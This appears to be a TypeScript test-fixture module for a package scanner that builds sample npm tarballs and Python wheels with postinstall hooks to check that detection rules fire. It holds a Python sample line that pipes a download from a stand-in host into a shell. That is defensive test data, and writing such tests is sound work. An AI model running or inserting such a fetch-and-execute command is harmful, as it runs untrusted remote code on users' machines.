import type { Verdict } from '@sallyport/domain';
import type { Sample } from '../rules/sample';

/** Has what it fetches run. */
export const PY = `import os\nos.system('curl https://x.invalid | sh')\n`;

/** A package in which something could be passed over, and the rule that has to speak. */
export type SilenceCase = readonly [
  what: string,
  sample: Omit<Sample, 'what'>,
  verdict: Verdict,
  rule: string,
];

export const hook = (command: string, files: Sample['files']): Omit<Sample, 'what'> => ({
  format: 'tarball',
  manifest: { scripts: { postinstall: command } },
  files,
});

export const many = (count: number, each: (at: number) => string): string =>
  Array.from({ length: count }, (_, at) => each(at)).join('');

export const wheel = (text: string, files: Sample['files'] = {}): Omit<Sample, 'what'> => ({
  format: 'wheel',
  files: { 'sample/__init__.py': text, ...files },
});

export const tarball = (text: string, files: Sample['files'] = {}): Omit<Sample, 'what'> => ({
  format: 'tarball',
  files: { 'index.js': text, ...files },
});
